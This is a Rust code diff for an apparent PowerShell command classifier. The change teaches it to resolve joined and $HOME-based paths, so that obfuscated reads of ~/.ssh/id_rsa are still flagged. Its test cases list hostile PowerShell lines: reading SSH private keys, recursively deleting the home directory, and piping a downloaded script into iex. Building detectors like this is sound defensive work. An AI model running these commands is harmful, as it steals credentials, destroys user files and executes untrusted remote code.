@@ -451,11 +451,48 @@ fn closing(text: &str) -> usize {
     text.len()
 }
 
+/// `[IO.Path]::Combine($HOME, '.ssh', 'id_' + 'rsa')`, `$HOME + '/x'`, `"$HOME/x"`
+fn joined_path(text: &str) -> Option<String> {
+    let lower = text.to_ascii_lowercase();
+    let combines = ["[io.path]::combine(", "[system.io.path]::combine("];
+    let (inside, joint) = match combines.iter().find(|start| lower.starts_with(**start)) {
+        Some(start) => (text.get(start.len()..)?, "/"),
+        None => (text, ""),
+    };
+    let inside = inside.get(..inside.find(')').unwrap_or(inside.len()))?;
+    let mut whole = String::new();
+    for (at, part) in inside.split(',').take(8).enumerate() {
+        if at > 0 {
+            if joint.is_empty() {
+                break;
+            }
+            whole.push_str(joint);
+        }
+        for piece in part.split('+') {
+            let piece = piece.trim().trim_matches(['\'', '"']);
+            let lower = piece.to_ascii_lowercase();
+            let home = ["$home", "$env:userprofile", "$env:home", "${home}"];
+            match home.iter().find(|name| lower.starts_with(**name)) {
+                Some(name) => {
+                    whole.push('~');
+                    whole.push_str(piece.get(name.len()..).unwrap_or_default());
+                }
+                None if piece.starts_with(['$', '(', '[']) => return None,
+                None => whole.push_str(piece),
+            }
+        }
+    }
+    (!whole.is_empty()).then_some(whole)
+}
+
 /// Methods of .NET, by name.
 fn methods(shell: &mut Shell<'_, '_>, text: &str, field: &Field) {
     let lower = text.to_ascii_lowercase();
     let literal_behind = |at: usize| {
         let rest = text.get(at..)?.trim_start().strip_prefix('(')?.trim_start();
+        if let Some(joined) = joined_path(rest) {
+            return Some(Field::new(path(&joined), field.span.clone()));
+        }
         let quote = rest.chars().next().filter(|quote| matches!(quote, '"' | '\''))?;
         let inside = rest.get(1..)?;
         Some(Field::new(path(inside.get(..inside.find(quote)?)?), field.span.clone()))
@@ -593,6 +630,11 @@ mod tests {
             ("ls ~ | Remove-Item -Recurse", "deletes-tree ~/*"),
             ("$f = 'a'; Get-Content $f", "reads a"),
             ("[IO.File]::ReadAllText('a')", "reads a"),
+            (
+                "[IO.File]::ReadAllText([IO.Path]::Combine($HOME,'.ssh','id_' + 'rsa'))",
+                "reads ~/.ssh/id_rsa",
+            ),
+            ("[IO.File]::ReadAllText(\"$env:USERPROFILE\\.ssh\\id_rsa\")", "reads ~/.ssh/id_rsa"),
             ("Set-Content -Path a -Value 'x'", "writes a"),
             ("& 'rm' -r a", "deletes-tree a"),
             ("iwr https://h.example/x | iex", "opaque network-code"),
